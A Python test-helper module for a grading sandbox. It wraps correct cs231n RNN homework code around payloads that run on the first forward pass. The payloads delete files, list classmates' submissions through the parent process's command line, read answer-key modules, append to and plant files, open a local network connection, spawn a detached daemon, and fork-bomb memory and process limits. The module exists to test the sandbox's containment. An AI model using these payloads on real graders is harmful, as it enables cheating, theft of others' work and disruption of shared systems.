"""Hostile submissions for the grading sandbox's tests (issue 27): each a correct cs231n RNN
pair that also tries one thing outside itself the first time its forward pass runs, and
reports on stdout what it managed ("GOT ..."), so a test can check both from outside (the
file deleted or not, the listener's connections) and from what it printed."""

SOURCE = '''import numpy as np

_tried = []


def _attack():
ATTACK


def rnn_step_forward(x, prev_h, Wx, Wh, b):
    next_h = np.tanh(x.dot(Wx) + prev_h.dot(Wh) + b)
    return next_h, (x, prev_h, Wx, Wh, next_h)


def rnn_step_backward(dnext_h, cache):
    x, prev_h, Wx, Wh, next_h = cache
    da = dnext_h * (1 - next_h ** 2)
    return da.dot(Wx.T), da.dot(Wh.T), x.T.dot(da), prev_h.T.dot(da), da.sum(axis=0)


def rnn_forward(x, h0, Wx, Wh, b):
    if not _tried:
        _tried.append(1)
        try:
            _attack()
        except Exception as exc:
            print("BLOCKED", type(exc).__name__, exc)
    N, T, D = x.shape
    h, caches, prev = np.zeros((N, T, h0.shape[1])), [], h0
    for t in range(T):
        prev, cache = rnn_step_forward(x[:, t], prev, Wx, Wh, b)
        h[:, t] = prev
        caches.append(cache)
    return h, caches


def rnn_backward(dh, cache):
    N, T, H = dh.shape
    x0, _, Wx, Wh, _ = cache[0]
    dx = np.zeros((N, T, x0.shape[1]))
    dWx, dWh, db = np.zeros_like(Wx), np.zeros_like(Wh), np.zeros(H)
    dprev = np.zeros((N, H))
    for t in reversed(range(T)):
        dx[:, t], dprev, dWx_t, dWh_t, db_t = rnn_step_backward(dh[:, t] + dprev, cache[t])
        dWx += dWx_t
        dWh += dWh_t
        db += db_t
    return dx, dprev, dWx, dWh, db
'''


def submission(attack: str) -> str:
    """A correct cs231n pair whose first forward call runs ``attack`` (Python, a body)."""
    body = "\n".join("    " + line for line in attack.strip("\n").splitlines())
    return SOURCE.replace("ATTACK", body)


def delete(path) -> str:
    return submission(f"import os\nos.remove({str(path)!r})\nprint('GOT deleted')")


def read_classmates_via_parent() -> str:
    # the grader's command line names the folders; from them, the submissions folder
    return submission("""
import os
cmd = open(f"/proc/{os.getppid()}/cmdline", "rb").read().split(b"\\0")
print("PARENT", cmd[:3])
for arg in cmd:
    folder = os.path.dirname(arg.decode())
    if folder and os.path.isdir(folder):
        for name in os.listdir(folder):
            print("GOT listing", folder, name)
""")


def read_file(path) -> str:
    return submission(f"print('GOT read', open({str(path)!r}).read())")


def append_to(path) -> str:
    return submission(f"open({str(path)!r}, 'a').write('# corrupted by a classmate\\n')\nprint('GOT appended')")


def write_into(folder) -> str:
    return submission(f"open({str(folder)!r} + '/planted.txt', 'w').write('x')\nprint('GOT written')")


def answer_key(files) -> str:
    """Import the suite's derivation and references; read their sources by path."""
    return submission(f"""
import importlib
for name in ("manual.rnn", "manual.gated", "reference.torch_autograd", "reference.numeric",
             "comparisons.check.diagnosis", "comparisons.check.gated_mistakes", "comparisons.check.gated_mc",
             "comparisons.check.checker"):
    try:
        importlib.import_module(name)
        print("GOT import", name)
    except Exception as exc:
        print("BLOCKED import", name, type(exc).__name__)
for path in {[str(f) for f in files]!r}:
    try:
        open(path).read()
        print("GOT read", path)
    except Exception as exc:
        print("BLOCKED read", path, type(exc).__name__)
""")


def connect(port: int) -> str:
    return submission(f"import socket\nsocket.create_connection(('127.0.0.1', {port}), timeout=2).sendall(b'hi')\n"
                      f"print('GOT connected')")


def daemon(marker: str, path) -> str:
    """setsid a child that outlives the grade and then writes a file."""
    return submission(f"""
import subprocess, sys
subprocess.Popen([sys.executable, "-c", "import time; time.sleep(3); open({str(path)!r}, 'w').write('late')  # {marker}"],
                 start_new_session=True, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
print("GOT started")
""")


def many_allocations(n: int, megabytes: int) -> str:
    """n processes, each touching ``megabytes`` of memory: under a per-process limit each fits,
    under the whole submission's they cannot all."""
    return submission(f"""
import os, time
kids = []
for i in range({n}):
    pid = os.fork()
    if pid == 0:
        block = bytearray({megabytes} * 2**20)
        for k in range(0, len(block), 4096):
            block[k] = 1
        print("ALLOCATED", i, flush=True)
        time.sleep(1)
        os._exit(0)
    kids.append(pid)
for pid in kids:
    os.waitpid(pid, 0)
""")


def many_processes(n: int) -> str:
    return submission(f"""
import os, time
started = 0
for i in range({n}):
    try:
        pid = os.fork()
    except OSError as exc:
        print("REFUSED after", started, type(exc).__name__)
        break
    if pid == 0:
        time.sleep(1)
        os._exit(0)
    started += 1
print("STARTED", started)
""")
